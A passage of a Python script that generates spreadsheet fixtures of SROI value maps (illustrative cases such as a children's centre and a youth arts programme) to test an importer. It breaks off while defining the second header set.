"""Build value maps as practitioners make them, and files nobody should send, to test the importer from outside.

Run ``python make.py FOLDER`` to write every fixture into FOLDER, ``python make.py FOLDER NAME …`` for some of them, and
``python make.py --expected expected.yaml`` to write down what is on each sheet. Layouts follow the headings of
published maps; the figures are invented, and every sheet is computed here, in plain Python, without the calculator
under test. Nothing here looks at an importer.

The words of the record: ``attribution_printed`` is what a reader sees, ``attribution`` the share caused by others.
"""

from __future__ import annotations

import argparse
import csv
import io
import math
import re
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference
from openpyxl.packaging.relationship import Relationship
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter
from openpyxl.workbook.external_link import ExternalLink
from openpyxl.workbook.external_link.external import ExternalBook, ExternalSheetNames
from openpyxl.worksheet.worksheet import Worksheet

BOLD = Font(bold=True)
SHADE = PatternFill("solid", fgColor="DDE6EF")
WRAP = Alignment(wrap_text=True, vertical="top")
NO_BREAK_SPACE = "\u00a0"
MINUS_SIGN = "\u2212"


# ---------------------------------------------------------------------------------------------------------------------
# What a map says, and the sums that follow from it
# ---------------------------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Outcome:
    """One row of a value map; ``attribution`` is always the share caused by others."""

    name: str
    quantity: float
    value: float
    deadweight: float = 0.0
    displacement: float = 0.0
    attribution: float = 0.0
    drop_off: float = 0.0
    duration: float = 1
    delay: int = 0
    change: str = ""
    indicator: str = ""
    source: str = ""
    proxy: str = ""
    proxy_source: str = ""
    other_deductions: dict[str, float] = field(default_factory=dict)
    extra: dict[str, Any] = field(default_factory=dict)

    def impact(self) -> float:
        """Quantity times value, less every deduction."""
        kept = (1 - self.deadweight) * (1 - self.displacement) * (1 - self.attribution)
        for share in self.other_deductions.values():
            kept *= 1 - share
        return self.quantity * self.value * kept

    def years(self, count: int, part_years: str = "pro-rata") -> list[float]:
        """Spread the impact over ``count`` years with geometric drop-off, the first life-year in full."""
        life = math.ceil(self.duration) if part_years == "round-up" else self.duration
        values = [0.0] * count
        for age in range(math.ceil(life)):
            if age + self.delay < count:
                values[age + self.delay] = self.impact() * (1 - self.drop_off) ** age * min(1.0, life - age)
        return values


@dataclass(frozen=True)
class Group:
    """A stakeholder, what it invests and what changes for it."""

    stakeholder: str
    number: int | None = None
    inputs: tuple[tuple[str, float | None], ...] = ()
    outputs: str | None = None
    outcomes: tuple[Outcome, ...] = ()
    involved: int | None = None


@dataclass(frozen=True)
class Case:
    """A whole map; (1 + rate) to the power of ``first_exponent`` divides the first year: 1 end, 0 start, 0.5 mid."""

    title: str
    currency: str
    groups: tuple[Group, ...]
    rate: float = 0.035
    first_exponent: float = 1.0
    year_count: int = 5
    part_years: str = "pro-rata"
    printed: dict[tuple[str, str], Any] = field(default_factory=dict)

    def outcomes(self) -> list[Outcome]:
        """All outcomes in the order of the sheet."""
        return [outcome for group in self.groups for outcome in group.outcomes]

    def inputs(self) -> float:
        """What all stakeholders invest."""
        return sum(amount or 0.0 for group in self.groups for _, amount in group.inputs)

    def shown(self, outcome: Outcome, name: str) -> Any:
        """Give impact or a year value as the sheet prints it, planted errors included."""
        if (outcome.name, name) in self.printed:
            return self.printed[outcome.name, name]
        if name == "impact":
            return outcome.impact()
        return outcome.years(self.year_count, self.part_years)[int(name.removeprefix("year"))]

    def totals(self, right: bool = False) -> dict[str, Any]:
        """Totals of what is printed, or of what ought to be printed."""
        case = replace(self, printed={}) if right else self
        years = [sum(case.shown(o, f"year{k}") for o in case.outcomes()) for k in range(self.year_count)]
        present = [value / (1 + self.rate) ** (k + self.first_exponent) for k, value in enumerate(years)]
        invested = self.inputs()
        return {
            "inputs": invested,
            "impact": sum(case.shown(o, "impact") for o in case.outcomes()),
            "years": years,
            "present_values": present,
            "total_pv": sum(present),
            "npv": sum(present) - invested,
            "ratio": sum(present) / invested if invested else None,
        }


def children_centre() -> Case:
    """Work-focused services in a children's centre: illustrative figures in pounds."""
    work = Outcome(
        "Move into sustained work", 18, 7420, 0.30, 0.10, 0.25, 0.20, 3,
        change="More parents in work", indicator="In work of 16 hours or more after 6 months",
        source="Monitoring, n = 96",
        proxy="Net earnings gain in the first year", proxy_source="Annual Survey of Hours and Earnings",
    )  # fmt: skip
    confidence = Outcome(
        "Feel more confident about looking for work", 52, 1234.50, 0.25, 0, 0.20, 0.40, 2,
        change="Confidence and aspirations", indicator="Two points up on the confidence scale", source="Endline survey",
        proxy="Cost of a confidence course", proxy_source="Course prices of three local providers",
    )  # fmt: skip
    strain = Outcome(
        "Less time together in the first months of work", 14, -350, change="Family time",
        source="Interviews with 11 parents", indicator="Say they miss time together",
        proxy="Cost of a family weekend", proxy_source="Family Spending survey",
    )  # fmt: skip
    nursery = Outcome(
        "Settle better at nursery", 61, 480, 0.35, 0, 0.40, 0.25, 4, 1,
        change="Children ready for school", indicator="Staff rating up by one grade", source="Nursery records",
        proxy="Cost of a term of extra support", proxy_source="Council budget book",
    )  # fmt: skip
    referrals = Outcome(
        "Fewer referrals to children's social care", 4, 2310, 0.20, 0.05, 0.50, 0.10, 2,
        change="Less pressure on services", indicator="Referrals avoided", source="Council data",
        proxy="Unit cost of a referral", proxy_source="Unit cost database",
    )  # fmt: skip
    skills = Outcome(
        "Gain skills as volunteers", 9, 650, 0.15, 0, 0.10, 0, 1,
        change="Volunteers' skills", indicator="Completed the volunteer course", source="Course register",
        proxy="Price of a level 2 course", proxy_source="College prospectus",
    )  # fmt: skip
    return Case(
        "Work-focused services in a children's centre (illustrative figures)",
        "GBP",
        (
            Group("Parents using the centre", 120, (("Time at sessions", 0),), "310 appointments with the adviser",
                  (work, confidence, strain), 24),
            Group("Children of these parents", 190, (), "46 stay-and-play sessions", (nursery,), 0),
            Group("Local authority", 1, (("Centre rooms and coordination", 38500),), None, (referrals,), 2),
            Group("Jobcentre Plus", 1, (("Personal adviser, full time", 41250),), None, (), 3),
            Group("Volunteers", 16, (("1,040 hours at £12.21", 12698.40),), "1,040 hours", (skills,), 7),
        ),
    )  # fmt: skip


def livelihoods() -> Case:
    """Training of work services staff in an assets-based approach: 608 trained is published, the rest illustrative."""
    approach = Outcome(
        "Work coaches handle difficult conversations better", 243, 410, 0.30, 0, 0.15, 0.35, 3,
        change="Understanding of poverty", indicator="Use the toolkit weekly", source="Staff survey, n = 188",
        proxy="Price of a two-day communication course", proxy_source="Three training providers", extra={"sample": 188},
    )  # fmt: skip
    absence = Outcome(
        "Fewer days of sickness absence among staff", 31, 870, 0.50, 0, 0.30, 0.50, 1,
        change="Staff wellbeing", indicator="Days lost", source="Personnel records",
        proxy="Cost of a week of absence", proxy_source="Departmental accounts", extra={"sample": 608},
    )  # fmt: skip
    closer = Outcome(
        "Move closer to work", 175, 1150, 0.40, 0.05, 0.45, 0.30, 2,
        change="Progress towards work", indicator="Agreed next step completed", source="Customer interviews, n = 41",
        proxy="Cost of an employability course", proxy_source="Provider prices", extra={"sample": 41},
    )  # fmt: skip
    sanction = Outcome(
        "Avoid a sanction", 62, 305.25, 0.35, 0, 0.25, 0, 1, 1,
        change="Fewer sanctions", indicator="No sanction in 12 months", source="Office figures",
        proxy="Average benefit lost", proxy_source="Published statistics", extra={"sample": 41},
    )  # fmt: skip
    return Case(
        "Livelihoods training for work services staff (illustrative figures)",
        "GBP",
        (
            Group("Work services staff", 608, (("One working day each", 72960),), "608 people trained",
                  (approach, absence), 188),
            Group("Customers", 2400, (("Time", 0),), "1,900 meetings", (closer, sanction), 41),
            Group("Training charity", 1, (("Trainers and materials", 58400),), "38 workshops", (), 6),
            Group("Community partners", 4, (("Rooms and guest speakers", 3150.75),), None, (), 4),
        ),
    )  # fmt: skip


def large_families() -> Case:
    """Family coordinators for large families on social assistance in three Oslo districts: illustrative, in kroner."""
    return Case(
        "From social assistance to self-reliance, three districts (illustrative figures)",
        "NOK",
        (
            Group("Parents", 38, (("Time in meetings", 0),), "20 families per coordinator", (
                Outcome("Foreign qualification approved", 7, 42000, 0.20, 0, 0.30, 0.10, 4,
                        indicator="Decision received"),
                Outcome("Paid work and off social assistance", 4, 118450.50, 0.25, 0.10, 0.35, 0.25, 5, 1,
                        indicator="No payment for 6 months"),
                Outcome("Worry about being followed up", 3, -1234.50, 0, 0, 0, 0, 1, indicator="Interviews"),
            )),
            Group("Their children", 121, (), "One plan per child", (
                Outcome("Take part in a leisure activity", 64, 4800, 0.45, 0, 0.20, 0.30, 3,
                        indicator="Member all season"),
            )),
            Group("City districts", 3, (("Three family coordinators", 1950000),), None, (
                Outcome("Fewer emergency housing nights", 210, 1150, 0.30, 0.15, 0.40, 0.20, 2,
                        indicator="Nights avoided"),
            )),
            Group("Directorate", 1, (("Grant", 640000),), None, ()),
        ),
        rate=0.04,
    )  # fmt: skip


def art_festival() -> Case:
    """An arts programme in New Taiwan dollars: quantities are a share of a group, so not whole numbers."""
    return Case(
        "Youth stage programme (illustrative figures)",
        "TWD",
        (
            Group("Young performers", 80, (("Time and travel", 96000),), "12 performances", (
                Outcome("More self-assured on stage", 80 * 0.33, 9600, 0.12, 0, 0.27, 0.35, 3,
                        indicator="Say they dare to speak", source="Survey, n = 61", proxy="Public speaking course",
                        proxy_source="Course prices", extra={"share": 0.33}),
                Outcome("Better relations within the family", 80 * 0.215, 14400, 0.18, 0, 0.415, 0.5, 2,
                        indicator="Talk more at home", source="Survey, n = 61",
                        proxy="Family counselling, six sessions", proxy_source="Clinic prices", extra={"share": 0.215}),
            )),
            Group("Parents", 65, (("Entrance fees", 39000),), None, (
                Outcome("Worry less about the future", 65 * 0.28, 7200, 0.22, 0.03, 0.33, 0.4, 2,
                        indicator="Worry scale", source="Survey, n = 40", proxy="Counselling hour times six",
                        proxy_source="Clinic prices", extra={"share": 0.28}),
            )),
            Group("Teachers", 14, (("Hours beyond duty", 112000),), "36 workshops", (
                Outcome("New teaching methods", 14 * 0.64, 18000, 0.15, 0, 0.36, 0.2, 5,
                        indicator="Use them in class", source="Interviews", proxy="Teacher training week",
                        proxy_source="Ministry fee list", extra={"share": 0.64}),
                Outcome("Longer working days", 14 * 0.29, -25778, 0, 0, 0.1, 0, 1,
                        indicator="Overtime log", source="Interviews", proxy="Overtime pay",
                        proxy_source="School pay scale", extra={"share": 0.29}),
            )),
            Group("Foundation", 1, (("Programme budget", 382500),), None, ()),
        ),
        rate=0.0105,
    )  # fmt: skip


def baseball() -> Case:
    """A sports club in New Taiwan dollars over ten years, one harm included."""
    return Case(
        "Ball club in the community",
        "TWD",
        (
            Group("Fans", 5200, (("Tickets", 4160000),), None, (
                Outcome("A sense of belonging", 1144, 3250, 0.30, 0.05, 0.25, 0.20, 5, indicator="Belonging scale",
                        source="Survey", proxy="Club membership", proxy_source="Membership fees",
                        extra={"category": "External", "sub": "Season ticket holders"}),
                Outcome("More exercise", 416, 5400, 0.42, 0, 0.31, 0.35, 3, indicator="Weekly sessions",
                        source="Survey", proxy="Gym membership", proxy_source="Gym prices",
                        extra={"category": "External", "sub": "Occasional visitors"}),
            )),
            Group("Players", 60, (("Time", 0),), None, (
                Outcome("Career after sport", 9, 186000, 0.20, 0, 0.15, 0.05, 10, indicator="Trained as coach",
                        source="Club records", proxy="Yearly wage gain", proxy_source="Labour statistics",
                        extra={"category": "Internal", "sub": "Players over 30"}),
                Outcome("Injuries", 6, -25778, 0, 0, 0, 0, 2, indicator="Weeks out", source="Medical records",
                        proxy="Treatment", proxy_source="Insurance tables",
                        extra={"category": "Internal", "sub": "All players"}),
            )),
            Group("Club owner", 1, (("Operating costs", 1850000),), None, ()),
        ),
        rate=0.0105,
        year_count=10,
    )  # fmt: skip


# ---------------------------------------------------------------------------------------------------------------------
# How cells look
# ---------------------------------------------------------------------------------------------------------------------

Form = Callable[[Any], tuple[Any, str, str]]
"""From a value to the cell's value, its number format and the text a reader sees."""


def plain(value: Any) -> tuple[Any, str, str]:
    """Leave the value as it is."""
    return value, "General", f"{value:g}" if isinstance(value, float) else str(value)


def whole(value: Any) -> tuple[Any, str, str]:
    """Keep all decimals, show none."""
    return value, "#,##0", f"{value:,.0f}"


def two_decimals(value: Any) -> tuple[Any, str, str]:
    """Keep all decimals, show two."""
    return value, "#,##0.00", f"{value:,.2f}"


def percent(value: Any) -> tuple[Any, str, str]:
    """Hold 0.25, show 25%."""
    return value, "0%", f"{value:.0%}"


def fine_percent(value: Any) -> tuple[Any, str, str]:
    """Hold 0.0105, show 1.05%."""
    return value, "0.00%", f"{value:.2%}"


def percent_text(value: Any) -> tuple[Any, str, str]:
    """Hold the text 25%."""
    text = f"{value * 100:g}%"
    return text, "@", text


def percent_bare_text(value: Any) -> tuple[Any, str, str]:
    """Hold the text 25, without a sign."""
    text = f"{value * 100:g}"
    return text, "@", text


def percent_norwegian(value: Any) -> tuple[Any, str, str]:
    """Hold the text 3,5 % with a decimal comma and a no-break space."""
    text = f"{value * 100:g}".replace(".", ",") + NO_BREAK_SPACE + "%"
    return text, "@", text


def percent_points(value: Any) -> tuple[Any, str, str]:
    """Hold the number 25."""
    points = round(value * 100, 10)
    return (int(points) if points == int(points) else points), "General", f"{points:g}"


def money(symbol: str, decimals: int = 2) -> Form:
    """Number with a currency format, such as £1,234.50."""

    def form(value: Any) -> tuple[Any, str, str]:
        shown = f"{'-' if value < 0 else ''}{symbol}{abs(value):,.{decimals}f}"
        return value, f'"{symbol}"#,##0{"." + "0" * decimals if decimals else ""}', shown

    return form


pounds = money("£")
taiwan_dollars = money("NT$", 0)


def pounds_text(value: Any) -> tuple[Any, str, str]:
    """Hold the text £1,234.50, harms in brackets as bookkeepers write them."""
    text = f"£{abs(value):,.2f}"
    text = f"({text})" if value < 0 else text
    return text, "@", text


def dollars_text(value: Any) -> tuple[Any, str, str]:
    """Hold the text -$ 25,778 as in the baseball map."""
    text = f"{'-' if value < 0 else ''}$ {abs(value):,.0f}"
    return text, "@", text


def kroner_text(value: Any) -> tuple[Any, str, str]:
    """Hold the text 1 234,50 kr with no-break spaces and, for harms, a true minus sign."""
    text = f"{abs(value):,.2f}".replace(",", NO_BREAK_SPACE).replace(".", ",") + NO_BREAK_SPACE + "kr"
    text = MINUS_SIGN + text if value < 0 else text
    return text, "@", text


def in_turn(*forms: Form) -> Form:
    """Use the forms one after the other, as in a column filled in by several hands."""
    state = {"next": 0}

    def form(value: Any) -> tuple[Any, str, str]:
        chosen = forms[state["next"] % len(forms)]
        state["next"] += 1
        return chosen(value)

    return form


# ---------------------------------------------------------------------------------------------------------------------
# Laying a map on a sheet
# ---------------------------------------------------------------------------------------------------------------------

GROUP_FIELDS = {"stakeholder", "number", "number_again", "outputs", "involved"}
INPUT_FIELDS = {"inputs", "amount"}


@dataclass(frozen=True)
class Column:
    """What a column holds, the texts above it from top to bottom, and how its cells look."""

    field: str
    texts: tuple[str | None, ...]
    form: Form = plain


def column(name: str, *texts: str | None, form: Form = plain) -> Column:
    """Spell a column shortly."""
    return Column(name, texts, form)


def year_columns(
    labels: Sequence[str], above: Sequence[str | None], below: Sequence[str | None], form: Form
) -> list[Column]:
    """One column per year."""
    return [Column(f"year{k}", (*above, label, *below), form) for k, label in enumerate(labels)]


@dataclass
class Line:
    """One row of the sheet and what was put there."""

    row: int
    group: Group
    entry: tuple[str, float | None] | None
    outcome: Outcome | None
    shown: dict[str, str] = field(default_factory=dict)


@dataclass
class Place:
    """Where a map went on its sheet."""

    sheet: Worksheet
    case: Case
    columns: list[Column]
    left: int
    heading_rows: list[int]
    lines: list[Line] = field(default_factory=list)
    last_row: int = 0
    printed_totals: dict[str, Any] = field(default_factory=dict)
    rate_cell: str | None = None

    def index(self, name: str) -> int:
        """Number of the first column that holds a field."""
        return self.left + [c.field for c in self.columns].index(name)

    def has(self, name: str) -> bool:
        """Whether the sheet has such a column."""
        return any(c.field == name for c in self.columns)

    def letter(self, name: str) -> str:
        """Letter of the first column that holds a field."""
        return get_column_letter(self.index(name))

    def year_count(self) -> int:
        """How many year columns there are."""
        return sum(c.field.startswith("year") for c in self.columns)


def content(case: Case, name: str, line: Line) -> Any:
    """Give the value of a field in a row, None where the cell stays empty."""
    group, outcome = line.group, line.outcome
    if name in GROUP_FIELDS:
        return getattr(group, "number" if name == "number_again" else name)
    if name in INPUT_FIELDS:
        return None if line.entry is None else line.entry[name == "amount"]
    if outcome is None or name == "blank":
        return None
    if name == "impact" or name.startswith("year"):
        return case.shown(outcome, name)
    if name == "start":
        return outcome.delay + 1
    if name == "own_share":
        return 1 - outcome.attribution
    if name == "total_value":
        return outcome.quantity * outcome.value
    if name.startswith("other:"):
        return outcome.other_deductions.get(name[6:])
    if name.startswith("extra:"):
        return case.printed.get((outcome.name, name), outcome.extra.get(name[6:]))
    return case.printed.get((outcome.name, name), getattr(outcome, name))


def write_headings(sheet: Worksheet, columns: Sequence[Column], top: int, left: int, merge: bool) -> list[int]:
    """Write the texts above the columns; equal neighbours in upper rows become one merged cell."""
    depth = max(len(c.texts) for c in columns)
    for offset in range(len(columns)):
        sheet.column_dimensions[get_column_letter(left + offset)].width = 18
    for level in range(depth):
        texts = [c.texts[level] if level < len(c.texts) else None for c in columns]
        start = 0
        while start < len(texts):
            end = start
            while (
                merge and level < depth - 1 and end + 1 < len(texts) and texts[start] and texts[end + 1] == texts[start]
            ):
                end += 1
            if texts[start] is not None:
                cell = sheet.cell(top + level, left + start, texts[start])
                cell.font, cell.fill, cell.alignment = BOLD, SHADE, WRAP
            if end > start:
                sheet.merge_cells(None, top + level, left + start, top + level, left + end)
            start = end + 1
    return list(range(top, top + depth))


def put(sheet: Worksheet, row: int, number: int, value: Any, form: Form = plain) -> str:
    """Write one cell in a form and return what a reader sees."""
    if value is None or value == "":
        return ""
    if isinstance(value, str):
        sheet.cell(row, number, value)
        return value
    held, number_format, shown = form(value)
    sheet.cell(row, number, held).number_format = number_format
    return shown


def lay(
    sheet: Worksheet,
    case: Case,
    columns: Sequence[Column],
    top: int = 1,
    left: int = 1,
    merge: bool = True,
    stakeholder_on_every_row: bool = False,
    subtotals: bool = False,
) -> Place:
    """Write headings and rows; inputs stand beside stakeholders, a group's cells are merged or empty below."""
    place = Place(sheet, case, list(columns), left, write_headings(sheet, columns, top, left, merge))
    row = place.heading_rows[-1] + 1
    for group in case.groups:
        first = row
        for step in range(max(len(group.inputs), len(group.outcomes), 1)):
            entry = group.inputs[step] if step < len(group.inputs) else None
            outcome = group.outcomes[step] if step < len(group.outcomes) else None
            line = Line(row, group, entry, outcome)
            for offset, item in enumerate(columns):
                if (
                    step
                    and item.field in GROUP_FIELDS
                    and not (stakeholder_on_every_row and item.field == "stakeholder")
                ):
                    continue
                line.shown[item.field] = put(sheet, row, left + offset, content(case, item.field, line), item.form)
            place.lines.append(line)
            row += 1
        if merge and row - first > 1:
            for offset, item in enumerate(columns):
                if item.field in GROUP_FIELDS or (item.field in INPUT_FIELDS and len(group.inputs) == 1):
                    sheet.merge_cells(None, first, left + offset, row - 1, left + offset)
        if subtotals and group.outcomes:
            put(sheet, row, left, f"Sub-total {group.stakeholder}")
            for offset, item in enumerate(columns):
                if item.field == "impact" or item.field.startswith("year"):
                    put(sheet, row, left + offset, sum(case.shown(o, item.field) for o in group.outcomes), item.form)
            row += 1
    place.last_row = row - 1
    return place


def foot(
    place: Place,
    total: str = "Total",
    present: str | None = "Present value of each year",
    total_pv: str | None = "Total Present Value (PV)",
    npv: str | None = "Net Present Value",
    ratio: str | None = "Social Return Value per amount invested",
    form: Form = pounds,
    ratio_text: Callable[[float], Any] = lambda number: number,
    empty_rows: int = 0,
    rate: Form | None = None,
) -> int:
    """Write the totals below a map: sums, present values, ratio, on request the rate; return the last row."""
    sheet, sums = place.sheet, place.case.totals()
    row = place.last_row + 1 + empty_rows
    put(sheet, row, place.left, total)
    for name in ("amount", "impact"):
        if place.has(name):
            key = "inputs" if name == "amount" else name
            put(sheet, row, place.index(name), sums[key], form)
            place.printed_totals[key] = sums[key]
    count = place.year_count()
    if count:
        first = place.index("year0")
        for k in range(count):
            put(sheet, row, first + k, sums["years"][k], form)
        place.printed_totals["years"] = sums["years"]
        if present:
            row += 1
            put(sheet, row, first - 1, present)
            for k in range(count):
                put(sheet, row, first + k, sums["present_values"][k], form)
            place.printed_totals["present_values"] = sums["present_values"]
        for key, label in (("total_pv", total_pv), ("npv", npv), ("ratio", ratio)):
            if label:
                row += 1
                put(sheet, row, first - 1, label)
                if key == "ratio":
                    sheet.cell(row, first, ratio_text(sums[key])).number_format = "0.00"
                else:
                    put(sheet, row, first, sums[key], form)
                place.printed_totals[key] = sums[key]
        if rate:
            row += 1
            discount_rate(place, row, first - 1, form=rate)
    return row


def discount_rate(place: Place, row: int, number: int, label: str = "Discount rate", form: Form = percent) -> None:
    """Write the rate beside its label."""
    put(place.sheet, row, number, label)
    put(place.sheet, row, number + 1, place.case.rate, form)
    place.rate_cell = f"{get_column_letter(number + 1)}{row}"


def new_sheet(title: str) -> Worksheet:
    """Give the only sheet of a new workbook."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = title
    return sheet


# ---------------------------------------------------------------------------------------------------------------------
# Writing down what is on the sheet
# ---------------------------------------------------------------------------------------------------------------------

TIMINGS = {1.0: "end", 0.0: "start", 0.5: "mid"}
NUMBER_FIELDS = ("quantity", "value", "deadweight", "displacement", "attribution", "drop_off", "duration")


def outcome_record(place: Place, line: Line) -> dict[str, Any]:
    """Everything a row says about its outcome; fields without a column are left out."""
    case, outcome = place.case, line.outcome
    assert outcome is not None
    found: dict[str, Any] = {"row": line.row, "stakeholder": line.group.stakeholder, "outcome": outcome.name}
    if place.has("number"):
        found["people_in_group"] = line.group.number
    for name in NUMBER_FIELDS:
        if place.has(name) or (name == "attribution" and place.has("own_share")):
            found[name] = case.printed.get((outcome.name, name), getattr(outcome, name))
        if name == "attribution" and name in found:
            found["attribution_printed"] = line.shown.get("attribution", line.shown.get("own_share"))
    if place.has("start"):
        found["delay"] = outcome.delay
    if outcome.other_deductions:
        found["other_deductions"] = dict(outcome.other_deductions)
    if place.has("impact"):
        found["impact"] = case.shown(outcome, "impact")
    if place.year_count():
        found["years"] = [case.shown(outcome, f"year{k}") for k in range(place.year_count())]
    for item in place.columns:
        if item.field.startswith("extra:"):
            found.setdefault("extra", []).append([heading_of(item), line.shown.get(item.field)])
    return found


def heading_of(item: Column) -> str:
    """Lowest text above a column that is not empty, without question rows being told apart."""
    return next((text for text in reversed(item.texts) if text), "")


def describe(place: Place, kinds: dict[str, str] | None = None, **facts: Any) -> dict[str, Any]:
    """Record a map: where it is, what its rows say, and what it prints as totals."""
    case = place.case
    extra = [
        {
            "heading": heading_of(item),
            "column": get_column_letter(place.left + offset),
            "kind": "filter" if item.field.startswith("other:") else (kinds or {}).get(item.field[6:], "note"),
        }
        for offset, item in enumerate(place.columns)
        if item.field.startswith(("extra:", "other:"))
    ]
    record: dict[str, Any] = {
        "kind": "map",
        "title": case.title,
        "currency": case.currency,
        "sheet": place.sheet.title,
        "heading_rows": place.heading_rows,
        "first_row": place.lines[0].row,
        "last_row": place.last_row,
        "inputs": [
            {
                "row": line.row,
                "stakeholder": line.group.stakeholder,
                "what": line.entry[0] if place.has("inputs") else None,
                "amount": line.entry[1],
            }
            for line in place.lines
            if line.entry is not None and place.has("amount")
        ],
        "stakeholders_without_outcome": [g.stakeholder for g in case.groups if not g.outcomes],
        "outcomes": [outcome_record(place, line) for line in place.lines if line.outcome is not None],
        "not_on_sheet": [
            name
            for name in (*NUMBER_FIELDS, "impact")
            if not place.has(name) and not (name == "attribution" and place.has("own_share"))
        ],
        "printed_totals": dict(place.printed_totals),
        "extra_columns": extra,
        "wrong_rows": [],
    }
    if place.rate_cell:
        record["discount_rate"] = {"share": case.rate, "cell": place.rate_cell}
    if place.year_count():
        labels = [heading_of(c) for c in place.columns if c.field.startswith("year")]
        record["timing"] = {
            "outcomes": TIMINGS[case.first_exponent],
            "first_year_divided_by": f"(1 + rate)^{case.first_exponent:g}",
            "year_labels": [labels[0], labels[-1]],
            "year_count": len(labels),
        }
    record.update(facts)
    return record


# ---------------------------------------------------------------------------------------------------------------------
# The register of fixtures
# ---------------------------------------------------------------------------------------------------------------------

Payload = Workbook | bytes | Callable[[Path], None]
Fixture = Callable[[], tuple[Payload, dict[str, Any]]]
FIXTURES: dict[str, Fixture] = {}


def fixture(name: str) -> Callable[[Fixture], Fixture]:
    """Register a function that builds the file of this name and its record."""

    def register(function: Fixture) -> Fixture:
        FIXTURES[name] = function
        return function

    return register


# ---------------------------------------------------------------------------------------------------------------------
# Header sets 1 to 7
# ---------------------------------------------------------------------------------------------------------------------

WHO = "Who do we have an affect on? Who has an effect on us?"
WHERE_FROM = "Where did you get the information from?"
HOW_LONG = "How long does it last after end of activity? (Only enter numbers)"
WHEN = "Does it start in period of activity (1) or in period after (2)"
WHAT_VALUE = "What is the value of the change? (Only enter numbers)"
INPUT_VALUE = "What is the value of the inputs in currency (only enter numbers)"
LESS = "Quantity times financial proxy, less deadweight, displacement and attribution"
DEADWEIGHT = "What would have happened without the activity?"
DISPLACEMENT = "What activity did you displace?"
ATTRIBUTION = "Who else contributed to the change?"
DROP_OFF = "Does the outcome drop off in future years?"


def filter_columns(stage: tuple[str | None, ...] = ("Stage 4",), form: Form = percent) -> list[Column]:
    """Give the four percentage columns as the network's template words them."""
    return [
        column("deadweight", *stage, "Deadweight %", DEADWEIGHT, form=form),
        column("displacement", *stage, "Displacement %", DISPLACEMENT, form=form),
        column("attribution", *stage, "Attribution %", ATTRIBUTION, form=form),
        column("drop_off", *stage, "Drop off %", DROP_OFF, form=form),
    ]


def template_columns(years: int = 0) -> list[Column]:
    """Set 1: the SROI Network's Impact Map, with a banner of stages, headings and questions; on request with years."""
    band = "The Outcomes (what changes)"
    columns = [
        column("stakeholder", "Stage 1", None, "Stakeholders", WHO),
        column("change", "Stage 2", None, "Intended/unintended changes", "What do you think will change for them?"),
        column("inputs", "Stage 2", "Inputs", "Inputs", "What do they invest?"),
        column("amount", "Stage 2", "Inputs", None, INPUT_VALUE, form=pounds),
        column("outputs", "Stage 2", None, "Outputs", "Summary of activity in numbers"),
        column("name", "Stage 3", band, "Description", "How would the stakeholder describe the changes?"),
        column("indicator", "Stage 3", band, "Indicator", "How would you measure it?"),
        column("source", "Stage 3", band, "Source", WHERE_FROM),
        column("quantity", "Stage 3", band, "Quantity", "How much change was there?"),
        column("duration", "Stage 3", band, "Duration", HOW_LONG),
        column("start", "Stage 3", band, "Outcomes start", WHEN),
        column("proxy", "Stage 3", band, "Financial Proxy", "What proxy would you use to value the change?"),
        column("value", "Stage 3", band, "Value in currency", WHAT_VALUE, form=pounds),
        column("proxy_source", "Stage 3", band, "Source", WHERE_FROM),
        *filter_columns(("Stage 4", None)),
        column("impact", "Stage 4", None, "Impact", LESS, form=pounds),
    ]
    labels = [f"Year {k + 1}" for k in range(years)]
    return columns + year_columns(labels, ("Stage 5", "Calculating Social Return"), (None,), pounds)


def template_sheet(case: Case, title: str = "Impact Map", years: int = 5, **layout: Any) -> Place:
    """Lay a map in the network's template with its title rows, and the discount rate above the years."""
    sheet = new_sheet(title)
    sheet["A1"] = "SROI- Impact Map"
    sheet["A2"] = "Spreadsheet for developing SROI analysis. See guidance tab for further details."
    sheet["A3"] = case.title
    place = lay(sheet, replace(case, year_count=max(years, 1)), template_columns(years), top=5, **layout)
    if years:
        discount_rate(place, 3, place.index("year0"), form=lambda value: (value, "0.0%", f"{value:.1%}"))
    return place


@fixture("set1_impact_map_template.xlsx")
def set_1() -> tuple[Payload, dict[str, Any]]:
    """Header set 1: guide template with a cover sheet, no year columns, two columns called Source."""
    place = template_sheet(children_centre(), years=0)
    foot(place)
    cover = place.sheet.parent.create_sheet("Cover", 0)
    cover["B2"], cover["B4"] = "Lembar sampul", "Analisis SROI: contoh pengisian"
    guidance = place.sheet.parent.create_sheet("Guidance")
    guidance["A1"] = "Stage 1: list the stakeholders. Stage 2: what do they invest? Stage 3: what changes?"
    return place.sheet.parent, describe(
        place,
        header_set=1,
        repeated_headings={"Source": ["evidence for the quantity", "source of the financial proxy"]},
        to_ask=["discount rate, timing and ratio are not on the sheet"],
    )


@fixture("set2_value_map_training.xlsx")
def set_2() -> tuple[Payload, dict[str, Any]]:
    """Header set 2: training version with numbers involved, sample size, and empty rows that show 0% and 0.00."""
    case = livelihoods()
    sheet = new_sheet("The Value Map")
    sheet["A1"] = "Social Return on Investment - The Value Map"
    sheet["A2"] = "SROI Network. Only to be used as part of training. " + case.title
    band = "The Outcomes (what changes)"
    columns = [
        column("stakeholder", "Stage 1", None, "Stakeholders", WHO),
        column("number", "Stage 2", "No in group", "In group", None),
        column("involved", "Stage 2", "No in group", "Involved in process (determining outcomes)", None),
        column("inputs", "Stage 2", "Inputs", "What do they invest?", None),
        column("amount", "Stage 2", "Inputs", INPUT_VALUE, None, form=pounds),
        column("outputs", "Stage 2", "Outputs", "Summary of activity in numbers", None),
        column("name", "Stage 3", band, "Description", "How would the stakeholder describe the changes?"),
        column("indicator", "Stage 3", band, "Indicator", "How would you measure it?"),
        column("source", "Stage 3", band, "Source", WHERE_FROM),
        column("quantity", "Stage 3", band, "Quantity", "How much change was there?"),
        column("extra:sample", "Stage 3", band, "Sample size used", "Sample size used to determine quantity"),
        column("duration", "Stage 3", band, "Duration", HOW_LONG),
        column("start", "Stage 3", band, "Outcomes start", WHEN),
        column("proxy", "Stage 3", band, "Financial Proxy", "What proxy would you use to value the change?"),
        column("value", "Stage 3", band, "Value in currency", WHAT_VALUE, form=two_decimals),
        column("proxy_source", "Stage 3", band, "Source", WHERE_FROM),
        *filter_columns(("Stage 4", None)),
